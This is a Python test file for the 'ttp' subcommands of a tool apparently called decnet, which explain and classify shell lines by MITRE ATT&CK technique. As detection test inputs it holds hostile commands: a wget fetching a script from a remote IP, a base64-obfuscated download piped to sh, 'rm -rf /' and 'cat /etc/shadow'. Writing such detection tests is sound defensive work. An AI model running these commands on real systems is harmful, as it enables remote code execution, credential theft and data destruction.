from __future__ import annotations

import json
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from tests.cli.conftest import CommandLine


def test_explain_says_what_matched_where_and_why(decnet: CommandLine) -> None:
    out = decnet.run("ttp", "explain", "cd /tmp; wget http://203.0.113.7/x.sh").stdout
    assert "R0012" in out
    assert "wget http://203.0.113.7" in out
    assert "T1105 Ingress Tool Transfer (Command and Control)" in out


def test_explain_of_a_harmless_line_says_so(decnet: CommandLine) -> None:
    assert "No rule fires" in decnet.run("ttp", "explain", "who cares").stdout


def test_explain_shows_what_a_line_would_run_and_how_it_was_decoded(decnet: CommandLine) -> None:
    out = decnet.run("ttp", "explain", "echo d2dldCBodHRwOi8vMTAuMC4wLjEveA== | base64 -d | sh").stdout
    assert "wget http://10.0.0.1/x   in sh, decoded base64" in out
    assert "would run nothing" in decnet.run("ttp", "explain", "# rm -rf /").stdout


def test_explain_names_a_limit_that_was_reached(decnet: CommandLine) -> None:
    assert "limit reached: commands" in decnet.run("ttp", "explain", "id;" * 600).stdout


def test_explain_as_json_has_the_byte_range(decnet: CommandLine) -> None:
    found = json.loads(decnet.run("ttp", "explain", "--json", "cat /etc/shadow").stdout)
    (rule,) = [rule for rule in found["rules"] if rule["rule_id"] == "R0014"]
    assert rule["evidence"]["start"] == 0
    assert rule["emits"][0]["sub_technique_id"] == "T1003.008"


def test_predict_writes_one_row_per_row(decnet: CommandLine) -> None:
    given = [{"id": "a", "text": "whoami\nwget http://203.0.113.7/x"}, {"id": "b", "text": "who cares", "label": 1}]
    result = decnet.run("ttp", "predict", "-", stdin="\n".join(map(json.dumps, given)))
    assert [json.loads(line) for line in result.stdout.splitlines()] == [
        {"id": "a", "techniques": ["T1033", "T1105"]},
        {"id": "b", "techniques": []},
    ]


def test_predict_leaves_out_what_is_less_sure(decnet: CommandLine) -> None:
    result = decnet.run("ttp", "predict", "-", "--min-confidence", "0.99", stdin='{"id": "a", "text": "whoami"}')
    assert json.loads(result.stdout)["techniques"] == []


def test_predict_names_a_bad_row_and_goes_on(decnet: CommandLine) -> None:
    result = decnet.run("ttp", "predict", "-", stdin='{"id": 1}\n{"id": "b", "text": "id"}\n')
    assert result.returncode == 1
    assert "-:1:" in result.stderr
    assert len(result.stdout.splitlines()) == 1


def test_help_names_the_commands(decnet: CommandLine) -> None:
    assert "ttp" in decnet.run("--help").stdout
    assert decnet.run("nonsense").returncode == 2
